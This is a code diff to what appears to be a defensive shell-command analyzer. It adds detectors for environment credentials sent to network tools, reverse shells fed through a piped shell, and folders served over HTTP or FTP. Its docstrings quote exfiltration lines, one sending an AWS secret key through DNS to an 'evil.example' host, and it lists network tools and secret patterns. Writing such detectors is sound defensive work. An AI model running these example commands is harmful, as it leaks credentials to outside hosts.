@@ -172,7 +172,7 @@ def judge_effects(cmd: Cmd, an: Analysis, tools: Packs | None = None) -> Judged:
     matched = frozenset(h.rule for h in hits)
     hits.extend(secret_reads(cmd, tools or packs, an.cwds))
     hits.extend(secret_env_reads(cmd) or secret_filter_reads(cmd))
-    hits.extend(_network_substitution(cmd, an))
+    hits.extend(_network_substitution(cmd, an) or _secret_env_sent(cmd))
     hits.extend(stdin_uploads(cmd))
     hits.extend(_scripted_put(cmd, an))
     hits.extend(_names_on_stdin(cmd, an))
@@ -606,6 +606,7 @@ def redirect_secret(target: Word, cwds: tuple[str | None, ...] = (None,)) -> Hit
 # label in its server's log, as with a substitution written in place. A variable from
 # the operator's environment (`nslookup $SVC.svc.cluster.local`) is not computed here.
 _LABEL_VALUE = lazy(r"(?:\$\{?([A-Za-z_]\w*)\}?|\{\})[\w-]*\.[\w-]*[A-Za-z]")
+_HTTPIE_NAMES = frozenset({"http", "https", "httpie", "xh", "xhs"})
 _DNS_ICMP = frozenset(
     {"dig", "nslookup", "host", "drill", "kdig", "delv", "ping", "ping6", "hping3", "nping"}
 )
@@ -623,8 +624,11 @@ def _carries_value(cmd: Cmd, a: Word, an: Analysis) -> bool:
         found = re.search(r"\$\{?([A-Za-z_]\w*)|\{\}", original)
     if found is None:
         return False
-    if found.group(1) is None:  # xargs' `{}`: an item of what is piped in
-        return cmd.simple.upstream is not None and _upstream_name(cmd) not in _LITERAL_PRODUCERS
+    if found.group(1) is None:  # xargs' `{}`: an item of what is piped in, or of `-a FILE`
+        before = [w.text for w in cmd.simple.words if w.start < cmd.word.start]
+        return any(t == "-a" or t.startswith("--arg-file") for t in before) or (
+            cmd.simple.upstream is not None and _upstream_name(cmd) not in _LITERAL_PRODUCERS
+        )
     return _computed_variable(found.group(1), an.src)
 
 
@@ -650,6 +654,70 @@ def _network_substitution(cmd: Cmd, an: Analysis) -> list[Hit]:
                     "high",
                     f"{cmd.name} sends data computed "
                     "by a command to the network (a name or packet can carry a secret)",
+                    a.span,
+                    "unknown",
+                )
+            ]
+    return []
+
+
+# Where a network client takes the credential it logs in with: the value of a login
+# option, or a header that carries one. A credential from the environment given there
+# is used, not shown (as a key given to `curl --key`).
+_LOGIN_FLAGS = frozenset(
+    {
+        "-u",
+        "--user",
+        "-U",
+        "--proxy-user",
+        "--oauth2-bearer",
+        "--password",
+        "--http-password",
+        "--http-user",
+        "--proxy-password",
+        "--ftp-password",
+        "-a",
+        "--auth",
+    }
+)
+_HEADER_FLAGS = frozenset({"-H", "--header"})
+_AUTH_HEADER = lazy(
+    r"(?i)^(?:--header=|-H)?\s*(?:authorization|proxy-authorization|private-token|api-?key|"
+    r"cookie|x-[\w-]*(?:token|key|auth|secret|password)[\w-]*)\s*:"
+)
+
+
+def _secret_env_sent(cmd: Cmd) -> list[Hit]:
+    """`curl "https://x/?t=$VAULT_TOKEN"`, `dig $AWS_SECRET_ACCESS_KEY.evil.example`: a
+    credential from the environment written into what a network tool sends (an address,
+    a body, a name), where the shell puts its value. Given as the tool's login (`curl -u
+    "$U:$PASSWORD"`, an `Authorization:` header) it is used, not shown."""
+    if cmd.name not in _NETWORK_TOOLS and cmd.name not in _DNS_ICMP:
+        return []
+    previous = ""
+    for a in cmd.args:
+        login = previous in _LOGIN_FLAGS or a.text.startswith(
+            tuple(f + "=" for f in _LOGIN_FLAGS if f.startswith("--"))
+        )
+        header = (
+            previous in _HEADER_FLAGS
+            or cmd.name in _HTTPIE_NAMES
+            or a.text.startswith(("--header=", "-H"))
+        )
+        previous = a.text
+        if a.raw.startswith("'") or login or (header and _AUTH_HEADER.match(a.text)):
+            continue
+        name = next(
+            (m.group(1) for m in _VAR_REF.finditer(a.raw) if _SECRET_VAR.search(m.group(1))),
+            None,
+        )
+        if name is not None:
+            return [
+                Hit(
+                    "net.secret_env_sent",
+                    "high",
+                    f"{cmd.name} sends ${name}, a credential from the environment, to "
+                    "another host (the shell writes its value into the request)",
                     a.span,
                     "unknown",
                 )
@@ -864,7 +932,7 @@ def _scripted_put(cmd: Cmd, an: Analysis) -> list[Hit]:
 # into (`cd /root && python3 -m http.server`), or a relative folder named from there.
 _FILE_SERVERS: dict[str, tuple[str, tuple[str, ...]]] = {
     "python": (
-        r"(?:^|\s)-m\s*(?:http\.server|SimpleHTTPServer|uploadserver)\b",
+        r"(?:^|\s)-m\s*(?:http\.server|SimpleHTTPServer|uploadserver|pyftpdlib)\b",
         ("directory", "d"),
     ),
     "php": (r"(?:^|\s)-S\s*\S", ("t",)),
@@ -887,7 +955,9 @@ def served_folder(cmd: Cmd, an: Analysis) -> list[Hit]:
     for cwd in an.cwds:
         folder = resolve(named or ".", cwd) if cwd is not None else None
         if folder is not None and (
-            classify(folder) in ("root", "critical", "home", "dotfile") or is_secret_dir(folder)
+            classify(folder) in ("root", "critical", "home", "dotfile")
+            or is_secret_dir(folder)
+            or folder in ("/var/backups", "/var/lib")  # dumps and databases
         ):
             return [
                 Hit(
@@ -935,8 +1005,22 @@ def stdin_uploads(cmd: Cmd) -> list[Hit]:
         ),
         None,
     )
+    fed = _computed_input(cmd.simple)
+    if _piped_shell(cmd.simple.upstream):
+        return [
+            Hit(
+                "net.remote_shell",
+                "critical",
+                f"{cmd.name} sends a shell's output to another host: with the shell fed from "
+                "the connection, a reverse shell",
+                cmd.simple.upstream.span if cmd.simple.upstream else cmd.span,
+                "system",
+            )
+        ]
     if source is not None:
         what, span = source.text, source.span
+    elif fed is not None:
+        what, span = "text a command computes", fed
     elif (
         cmd.simple.upstream is not None
         and _upstream_name(cmd) not in _LITERAL_PRODUCERS
@@ -955,6 +1039,31 @@ def stdin_uploads(cmd: Cmd) -> list[Hit]:
             "unknown",
         )
     ]
+
+
+# Shells that read commands from their input when given no script (`sh -i`, `bash`).
+_SHELL_NAMES = frozenset({"sh", "bash", "zsh", "fish", "csh", "tcsh", "ksh", "ash", "dash"})
+
+
+def _piped_shell(up: Simple | None) -> bool:
+    """Is `up` a shell reading its commands from its input (no script, no `-c`)?"""
+    if up is None or not up.words:
+        return False
+    words = [w.text for w in up.words]
+    if command_name(words[0]) not in _SHELL_NAMES:
+        return False
+    return all(t.startswith("-") and "c" not in t.lstrip("-") for t in words[1:])
+
+
+def _computed_input(simple: Simple) -> tuple[int, int] | None:
+    """The span of a here-string or unquoted here-document on `simple`'s input whose text
+    a command substitution computes (`nc HOST 80 <<< "$(cat key)"`), or None."""
+    for r in simple.redirects:
+        if r.op == "<<<" and r.target is not None and ("$(" in r.target.raw or "`" in r.target.raw):
+            return r.span
+    if simple.heredoc is not None and ("$(" in simple.heredoc[0] or "`" in simple.heredoc[0]):
+        return simple.heredoc[1]
+    return None
 
 
 def _run_by_xargs(cmd: Cmd) -> bool:
